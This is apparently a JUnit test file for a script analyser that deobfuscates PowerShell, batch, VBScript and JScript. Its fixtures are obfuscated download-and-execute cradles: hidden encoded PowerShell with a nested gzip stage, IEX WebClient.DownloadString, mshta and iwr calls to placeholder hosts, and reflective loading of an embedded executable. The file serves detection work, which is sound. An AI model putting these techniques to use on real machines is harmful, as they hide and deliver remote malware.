package org.tocsin.readers.files;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.tocsin.readers.files.script.ScriptOpener;
import org.tocsin.testkit.files.PeWriter;

class ScriptsTest {
    private static OpenedFile open(String name, String text) {
        return OpenedFile.of(new ScriptOpener(), name, text.getBytes(StandardCharsets.UTF_8));
    }

    private static String encoded(String script) {
        return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
    }

    @Test
    void puts_power_shell_together_as_it_would_itself() {
        OpenedFile file = open("a.ps1", """
                $u = 'http://' + "a.exam" + 'ple/x'
                $m = "{2}{0}{1}" -f 'wnload','String','Do'
                $c = [char]105 + [char]101 + [char]120
                $r = 'yalp'; $w = -join $r[-1..-4]
                $x = -join ((104,104) | % { [char]($_ -bxor 1) })
                $p = 'A#B'.Replace('#','-').Split('-') -join '+'
                i`e`x (New-Object Net.WebClient).$m.Invoke($u)
                """);
        assertThat(file.all("Decoded")).contains("http://a.example/x", "DownloadString", "iex", "play", "A+B");
        assertThat(file.all("Script.Source").getFirst()).contains("iex (New-Object Net.WebClient)");
        assertThat(file.all("Url")).contains("http://a.example/x");
        assertThat(file.fact("script-runs-text")).isNotEmpty();
    }

    @Test
    void follows_scripts_within_scripts_to_the_last() throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            gzip.write("IEX (New-Object Net.WebClient).DownloadString('http://last.example/c')"
                    .getBytes(StandardCharsets.UTF_8));
        }
        String middle = "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('"
                + Base64.getEncoder().encodeToString(packed.toByteArray())
                + "'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
                + "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";
        OpenedFile file = open(
                "a.bat",
                "@echo off\r\nset \"q=hslepwor\"\r\n%q:~4,1%o%q:~5,1%ershell -nop -w hidden -e " + encoded(middle)
                        + "\r\n");
        assertThat(file.all("Url")).contains("http://last.example/c");
        assertThat(file.fact("script-is-encoded")).isNotEmpty();
        assertThat(file.fact("script-hides")).isNotEmpty();
    }

    @Test
    void follows_visual_basic_script_and_what_it_runs() {
        OpenedFile file = open("a.vbs", """
                Set s = CreateObject("WScr" & "ipt.Shell")
                s.Run "cmd /c pow^ershell -w hidden -c \"\"iwr " & StrReverse("x/elpmaxe.b//:ptth") & \"\"\"\", 0
                """);
        assertThat(file.fact("runs-interpreter")).contains("powershell");
        assertThat(file.all("Url")).anyMatch(url -> url.startsWith("http://b.example/x"));
    }

    @Test
    void follows_javascript_and_what_it_runs() {
        OpenedFile file = open(
                "a.js",
                "var s=new ActiveXObject('WScr'+'ipt.Shell');var u='ht'+'tp://c.example/x';"
                        + "eval('s.R'+'un(\"mshta \"+u,0)');");
        assertThat(file.fact("script-calls")).contains("WScript.Shell.Run(\"mshta http://c.example/x\", 0)");
        assertThat(file.fact("runs-interpreter")).contains("mshta");
        assertThat(open("lib.js", "export function add(a, b) { return a + b; }").fact("script-calls"))
                .isEmpty();
    }

    @Test
    void reads_what_the_script_encoder_hid() {
        OpenedFile file = open("a.vbe", "#@~^CAAAAA==\\ko$K6,JCQAAAA==^#~@");
        assertThat(file.fact("script-is-encoded")).hasSize(1);
        assertThat(file.all("Script.Source").getFirst()).startsWith("MsgBox \"");
    }

    @Test
    void hands_on_a_program_that_a_script_carries() {
        byte[] program = new PeWriter().write();
        OpenedFile file = open(
                "a.ps1",
                "$b = [Convert]::FromBase64String('" + Base64.getEncoder().encodeToString(program)
                        + "'); [Reflection.Assembly]::Load($b)");
        assertThat(file.facts().children().getFirst().bytes()).isEqualTo(program);
        assertThat(file.fact("carries-file")).containsExactly("pe");
        assertThat(file.fact("script-loads-code")).isNotEmpty();
    }

    @Test
    void an_ordinary_script_shows_nothing_that_hides() {
        OpenedFile file = open(
                "build.ps1",
                "param($Name)\n$out = Join-Path $PSScriptRoot 'out'\nGet-ChildItem $out | Remove-Item\nWrite-Host \"done $Name\"\n");
        assertThat(file.all("Fact")).containsOnly("script", "script-of-powershell");
    }

    @Test
    void nests_without_end_come_to_an_end() {
        OpenedFile deep = open("a.ps1", "(".repeat(50_000) + "'a'" + ")".repeat(50_000));
        assertThat(deep.all("Object.Kind")).containsExactly("powershell");
        OpenedFile wide = open("b.ps1", "$a='x'*1000000;" + "$a=$a+$a;".repeat(60) + "iex $a");
        assertThat(wide.all("Object.Kind")).containsExactly("powershell");
    }
}
